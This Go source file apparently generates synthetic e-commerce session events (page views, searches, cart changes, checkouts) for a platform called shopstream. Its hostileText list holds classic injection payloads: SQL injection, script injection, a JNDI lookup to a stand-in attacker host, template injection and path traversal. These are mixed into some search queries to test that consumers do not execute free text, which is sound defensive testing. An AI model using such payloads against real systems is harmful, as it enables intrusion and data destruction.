package generator

import (
	"github.com/shopstream/shopstream/shared/event"
)

type cartLine struct {
	p   *product
	qty int
}

// session is one visit: a user browsing, searching, filling a cart and
// sometimes checking out.
type session struct {
	id       string
	u        *user
	device   string
	loc      *event.Location
	interest int
	steps    int
	maxSteps int
	cart     []cartLine
	viewed   *product // last product viewed, a candidate for the cart
	next     *product // product the user is about to view (search result, companion)
	page     string
}

var clickElements = []string{"product-card", "product-card", "recommendation-carousel", "banner", "filter", "sort", "reviews-tab"}

func (g *Generator) startSession() {
	u := g.cat.users[g.r.IntN(len(g.cat.users))]
	s := &session{
		id:       g.id("s-", &g.nextSess),
		u:        u,
		device:   u.device,
		loc:      g.location(u.city, true),
		interest: u.interest,
		maxSteps: 3 + int(g.r.ExpFloat64()*7),
	}
	if g.chance(0.3) {
		s.interest = g.r.IntN(len(categories))
	}
	if s.maxSteps > 60 {
		s.maxSteps = 60
	}
	g.sessionStep(s)
}

func (g *Generator) activity(s *session) event.Activity {
	return event.Activity{UserID: s.u.id, SessionID: s.id, Device: s.device, Location: s.loc}
}

func (g *Generator) sessionStep(s *session) {
	s.steps++
	cat := categories[s.interest].name
	switch {
	case s.steps == 1:
		s.page = "/c/" + cat
		g.emit(&event.PageView{Envelope: g.envelope(event.TypePageView), Activity: g.activity(s),
			PageURL: s.page, Referrer: referrers[g.r.IntN(len(referrers))], Category: cat})
	case s.next != nil:
		p := s.next
		s.next = nil
		g.viewProduct(s, p)
	case s.viewed != nil && g.chance(0.3):
		p := s.viewed
		s.viewed = nil
		qty := 1
		if g.chance(0.2) {
			qty = 2 + g.r.IntN(2)
		}
		s.cart = append(s.cart, cartLine{p, qty})
		price := p.price
		g.emit(&event.AddToCart{Envelope: g.envelope(event.TypeAddToCart), Activity: g.activity(s),
			ProductID: p.id, Quantity: qty, Category: categories[p.category].name, Price: &price})
		if len(p.companions) > 0 && g.chance(0.45) {
			s.next = g.cat.products[p.companions[g.r.IntN(len(p.companions))]]
		}
	case len(s.cart) > 0 && (g.chance(0.25) || s.steps >= s.maxSteps):
		g.checkout(s)
		return
	case len(s.cart) > 0 && g.chance(0.05):
		i := g.r.IntN(len(s.cart))
		l := s.cart[i]
		s.cart = append(s.cart[:i], s.cart[i+1:]...)
		g.emit(&event.RemoveFromCart{Envelope: g.envelope(event.TypeRemoveFromCart), Activity: g.activity(s),
			ProductID: l.p.id, Quantity: l.qty, Category: categories[l.p.category].name})
	default:
		switch x := g.r.Float64(); {
		case x < 0.5:
			g.viewProduct(s, g.pickSessionProduct(s))
		case x < 0.67:
			p := g.pickSessionProduct(s)
			q := p.name
			if g.chance(0.3) {
				q = categories[p.category].name + " " + q
			}
			if g.chance(0.01) {
				// Free text is stored, never interpreted: some users type hostile strings.
				q = hostileText[g.r.IntN(len(hostileText))]
			}
			n := g.r.IntN(80)
			g.emit(&event.Search{Envelope: g.envelope(event.TypeSearch), Activity: g.activity(s),
				Query: q, Category: categories[p.category].name, ResultsCount: &n})
			if n > 0 {
				s.next = p
			}
		case x < 0.82:
			s.page = "/c/" + cat
			if g.chance(0.3) {
				s.page += "?page=" + pad(2+g.r.IntN(5), 1)
			}
			g.emit(&event.PageView{Envelope: g.envelope(event.TypePageView), Activity: g.activity(s),
				PageURL: s.page, Category: cat})
		default:
			el := clickElements[g.r.IntN(len(clickElements))]
			c := &event.Click{Envelope: g.envelope(event.TypeClick), Activity: g.activity(s),
				PageURL: s.page, Element: el, Category: cat}
			if el == "product-card" || el == "recommendation-carousel" {
				p := g.pickSessionProduct(s)
				c.ProductID, c.Category = p.id, categories[p.category].name
				s.next = p
			}
			g.emit(c)
		}
	}
	if s.steps >= s.maxSteps && len(s.cart) == 0 {
		return // the user leaves
	}
	think := int64(1000 + g.r.ExpFloat64()*14000)
	g.schedule(action{at: g.now + think, kind: actSessionStep, session: s})
}

var referrers = []string{"", "", "https://www.google.com/", "https://www.bing.com/", "https://www.instagram.com/", "https://news.example.com/deals"}

func (g *Generator) pickSessionProduct(s *session) *product {
	if g.chance(0.7) {
		return g.pickProduct(s.interest)
	}
	return g.pickProduct(-1)
}

func (g *Generator) viewProduct(s *session, p *product) {
	s.viewed = p
	s.page = "/product/" + p.id
	price := p.price
	g.emit(&event.ProductView{Envelope: g.envelope(event.TypeProductView), Activity: g.activity(s),
		ProductID: p.id, Category: categories[p.category].name, Price: &price})
}

// hostileText is valid free text that a careless consumer would execute.
var hostileText = []string{
	"'; DROP TABLE orders; --",
	"<script>alert('xss')</script>",
	"\" OR \"1\"=\"1",
	"${jndi:ldap://attacker.invalid/a}",
	"{{7*7}} ../../etc/passwd",
	"Robert'); DELETE FROM stock WHERE ('1'='1",
}
